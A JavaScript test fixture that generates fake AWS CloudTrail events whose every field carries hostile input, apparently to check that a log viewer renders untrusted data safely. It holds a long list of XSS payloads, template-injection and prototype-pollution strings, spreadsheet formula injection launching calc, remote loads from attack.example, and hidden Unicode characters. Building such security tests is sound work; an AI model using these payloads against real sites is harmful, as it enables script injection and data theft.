// Events whose every field attacks whoever looks at it.

export const HIDING = ["\u202e", "\u200b", "\u2066", "\ufeff", "\u0007", "\u0000", "\u{e0041}"];

const MARKUP = [
  "<script>window.hit=1</script>",
  "<img src=x onerror=window.hit=1>",
  "<svg onload=window.hit=1>",
  "<svg><script>window.hit=1</script></svg>",
  "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "<body onload=window.hit=1>",
  "<details open ontoggle=window.hit=1>",
  "<video><source onerror=window.hit=1></video>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
  "<a href=javascript:window.hit=1>x</a>",
  "<object data=javascript:window.hit=1></object>",
  "<form action=javascript:window.hit=1><input type=submit></form>",
  "<template><script>window.hit=1</script></template>",
  "<meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
  "<base href=//attack.example/>",
  "<link rel=stylesheet href=//attack.example/x.css>",
  "<style>*{background:url(//attack.example)}</style>",
  "<style>@import'//attack.example/x.css'</style>",
  "<input autofocus onfocus=window.hit=1>",
  "<select autofocus onfocus=window.hit=1>",
  "<textarea autofocus onfocus=window.hit=1>",
  "<button autofocus onfocus=window.hit=1>",
  "<a autofocus href=x onfocus=window.hit=1>",
  "<div contenteditable autofocus onfocus=window.hit=1>",
  "<marquee onstart=window.hit=1>",
  "<audio src=x onerror=window.hit=1>",
  "<video src=x onerror=window.hit=1>",
  "<embed src=javascript:window.hit=1>",
  "<img srcset=x onerror=window.hit=1>",
  "<image href=x onerror=window.hit=1>",
  "<picture><img src=x onerror=window.hit=1></picture>",
  "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
  "<svg><set onbegin=window.hit=1 attributeName=x>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hit=1>#x'/>",
  "<svg><foreignObject><iframe onload=window.hit=1></iframe></foreignObject></svg>",
  "<svg><a xlink:href=javascript:window.hit=1><text>x</text></a></svg>",
  "<math href=javascript:window.hit=1>x</math>",
  "<frameset onload=window.hit=1>",
  "<iframe src=javascript:parent.hit=1></iframe>",
  "<iframe onload=window.hit=1></iframe>",
  "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
  "<xmp><p title='</xmp><img src=x onerror=window.hit=1>'>",
  "<title><img src=x onerror=window.hit=1></title>",
  "<script src=//attack.example/x.js></script>",
  "<script type=module>window.hit=1</script>",
];
const WAYS_OUT = ["", '"', "'", "`", "\">", "'>", "</td>", "-->", "]]>", "</textarea>", "</title>"];
const OTHERS = [
  "javascript:window.hit=1",
  "data:text/html,<script>window.hit=1</script>",
  "{{constructor.constructor('window.hit=1')()}}",
  "${window.hit=1}",
  "#{window.hit=1}",
  "<%= window.hit=1 %>",
  "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
  "&lt;script&gt;window.hit=1&lt;/script&gt;",
  "%3Cscript%3Ewindow.hit=1%3C/script%3E",
  "__proto__",
  "constructor",
  "=HYPERLINK(\"http://attack.example\",\"x\")",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "',window.hit=1,'",
  "a\nb\r\nc",
  "x".repeat(20_000),
  ...HIDING.map((character) => `user${character}nimda`),
];

export const ATTACKS = [...MARKUP.flatMap((markup) => WAYS_OUT.map((way) => way + markup)), ...OTHERS];

/** Five attacks to an event, so that each stands in another place. */
export function attackingEvents(now = Date.now()) {
  const events = [];
  // Of this run alone, so that a server can be judged again.
  const run = Math.floor(now / 1000).toString(16).padStart(8, "0");
  for (let at = 0; at < ATTACKS.length; at += 5) {
    const [a, b, c, d, e] = [0, 1, 2, 3, 4].map((offset) => ATTACKS[(at + offset) % ATTACKS.length]);
    const number = at / 5;
    events.push({
      eventVersion: "1.11",
      userIdentity: {
        type: "AssumedRole", principalId: b, arn: `arn:aws:sts::123456789012:assumed-role/${a}`, accountId: "123456789012", accessKeyId: c, userName: d,
        sessionContext: { sourceIdentity: e, sessionIssuer: { type: "Role", arn: d, principalId: e, userName: a, accountId: "123456789012" }, attributes: { mfaAuthenticated: c, creationDate: b } },
      },
      eventTime: `${new Date(now - 60_000 - number * 1000).toISOString().slice(0, 19)}Z`,
      eventSource: `attack-${run}.example`,
      eventName: `Attack${String(number).padStart(3, "0")}${b.slice(0, 100)}`,
      awsRegion: "us-east-1",
      sourceIPAddress: c,
      userAgent: a,
      errorCode: d,
      errorMessage: e,
      requestParameters: { [a]: b, bucketName: c, list: [d, { [e]: a }] },
      responseElements: { text: e },
      requestID: a,
      eventID: `${run}-0000-4000-8000-${String(number).padStart(12, "0")}`,
      readOnly: false,
      resources: [{ ARN: `arn:aws:s3:::${b}`, accountId: "123456789012", type: c }],
      eventType: "AwsApiCall",
      managementEvent: true,
      recipientAccountId: "123456789012",
      eventCategory: "Management",
    });
  }
  return events;
}
